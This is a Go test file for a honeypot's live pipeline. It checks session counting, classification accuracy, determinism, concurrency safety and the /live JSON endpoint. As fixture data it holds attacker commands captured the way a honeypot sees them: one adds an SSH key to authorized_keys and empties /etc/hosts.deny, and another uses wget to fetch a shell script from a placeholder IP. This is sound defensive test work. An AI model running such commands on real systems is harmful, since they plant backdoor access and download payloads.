package live

import (
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"honeynet/internal/classify"
	"honeynet/internal/obs"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
)

// simRecords replays a simulated corpus and returns its records in
// arrival order.
func simRecords(t testing.TB, scale float64, seed int64) []*session.Record {
	t.Helper()
	var recs []*session.Record
	_, err := simulate.Run(simulate.Config{
		Scale: scale,
		Seed:  seed,
		Sink: func(r *session.Record) {
			cp := *r
			recs = append(recs, &cp)
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// TestPipelineEndToEnd replays a corpus through the pipeline and checks
// the snapshot's accounting against a direct batch recount.
func TestPipelineEndToEnd(t *testing.T) {
	recs := simRecords(t, 100000, 21)
	p := NewPipeline(Options{})
	for _, r := range recs {
		p.Observe(r)
	}
	s := p.Snapshot()
	if s.Sessions != int64(len(recs)) {
		t.Fatalf("sessions %d != %d records", s.Sessions, len(recs))
	}

	// Batch recount with the reference classifier.
	c := classify.New()
	var classified, unknown int64
	want := map[string]int64{}
	for _, r := range recs {
		txt := r.CommandText()
		if txt == "" {
			continue
		}
		classified++
		cat := c.Classify(txt)
		want[cat]++
		if cat == classify.Unknown {
			unknown++
		}
	}
	if s.Classified != classified || s.Unknown != unknown {
		t.Fatalf("classified/unknown %d/%d != batch %d/%d", s.Classified, s.Unknown, classified, unknown)
	}
	got := map[string]int64{}
	var total int64
	for _, cs := range s.Categories {
		got[cs.Name] = cs.Count
		total += cs.Count
	}
	if total != classified {
		t.Fatalf("category counts sum %d != classified %d", total, classified)
	}
	for cat, n := range want {
		if got[cat] != n {
			t.Fatalf("category %q: live %d != batch %d", cat, got[cat], n)
		}
	}
}

// TestPipelineDeterminism: the snapshot (modulo uptime) is a function
// of the records observed, not of their arrival order — forward and
// reversed replays must yield identical documents.
func TestPipelineDeterminism(t *testing.T) {
	recs := simRecords(t, 150000, 8)
	run := func(reverse bool) *Snapshot {
		p := NewPipeline(Options{})
		for i := range recs {
			if reverse {
				i = len(recs) - 1 - i
			}
			p.Observe(recs[i])
		}
		s := p.Snapshot()
		s.Uptime = ""
		return s
	}
	a, _ := json.Marshal(run(false))
	b, _ := json.Marshal(run(true))
	if string(a) != string(b) {
		t.Fatalf("snapshots differ:\n%s\n%s", a, b)
	}
}

// TestPipelineConcurrent hammers Observe/Snapshot from many
// goroutines; run under -race this is the ingest-path safety test.
// The interleaving varies from run to run, the counts must not: they
// must equal a serial run's.
func TestPipelineConcurrent(t *testing.T) {
	recs := simRecords(t, 200000, 4)
	p := NewPipeline(Options{})
	var wg sync.WaitGroup
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(off int) {
			defer wg.Done()
			for i := off; i < len(recs); i += 4 {
				p.Observe(recs[i])
			}
		}(w)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 50; i++ {
			_ = p.Snapshot()
		}
	}()
	wg.Wait()

	serial := NewPipeline(Options{})
	for _, r := range recs {
		serial.Observe(r)
	}
	counts := func(s *Snapshot) string {
		out := fmt.Sprintf("sessions %d classified %d unknown %d", s.Sessions, s.Classified, s.Unknown)
		for _, c := range s.Categories {
			out += fmt.Sprintf(" %s=%d", c.Name, c.Count)
		}
		return out
	}
	if got, want := counts(p.Snapshot()), counts(serial.Snapshot()); got != want {
		t.Fatalf("concurrent counts differ from serial:\n%s\n%s", got, want)
	}
}

// TestPipelineHandlerAndRegister smoke-tests the /live JSON document
// and the metric registration (a duplicate-name panic would fail here).
func TestPipelineHandlerAndRegister(t *testing.T) {
	p := NewPipeline(Options{})
	reg := obs.NewRegistry()
	p.Register(reg)

	now := time.Now()
	p.Observe(&session.Record{
		Start: now, End: now,
		Commands: []session.Command{{Raw: `cd ~ && echo "ssh-rsa AAA mdrfckr" >> .ssh/authorized_keys && echo > /etc/hosts.deny`}},
		Protocol: "ssh",
	})
	rec := httptest.NewRecorder()
	p.Handler().ServeHTTP(rec, httptest.NewRequest("GET", "/live", nil))
	if rec.Code != 200 {
		t.Fatalf("status %d", rec.Code)
	}
	var s Snapshot
	if err := json.Unmarshal(rec.Body.Bytes(), &s); err != nil {
		t.Fatalf("bad /live JSON: %v", err)
	}
	if s.Sessions != 1 || s.Classified != 1 {
		t.Fatalf("bad snapshot %+v", s)
	}
	if len(s.Categories) != 1 || s.Categories[0].Name == classify.Unknown {
		t.Fatalf("mdrfckr text not classified: %+v", s.Categories)
	}
}

// TestIdleHandlerServesEmptyCategories: a daemon that has seen no
// command text serves an empty list, not null.
func TestIdleHandlerServesEmptyCategories(t *testing.T) {
	rec := httptest.NewRecorder()
	NewPipeline(Options{}).Handler().ServeHTTP(rec, httptest.NewRequest("GET", "/live", nil))
	if !strings.Contains(rec.Body.String(), `"categories": []`) {
		t.Fatalf("idle /live body lacks \"categories\": []:\n%s", rec.Body.String())
	}
}

// TestObserveDoesNotMemoize: the ingest path must never fill the
// classifier's memo — keyed by attacker-chosen text, it would grow for
// as long as the daemon stays up.
func TestObserveDoesNotMemoize(t *testing.T) {
	p := NewPipeline(Options{})
	now := time.Now()
	for i := 0; i < 10000; i++ {
		p.Observe(&session.Record{
			Start: now, End: now,
			Commands: []session.Command{{Raw: fmt.Sprintf("wget http://203.0.113.7/%d.sh", i)}},
		})
	}
	if s := p.Snapshot(); s.Classified != 10000 {
		t.Fatalf("classified %d of 10000", s.Classified)
	}
	if n := p.cls.Memoized(); n != 0 {
		t.Fatalf("Observe left %d texts in the classifier memo", n)
	}
}
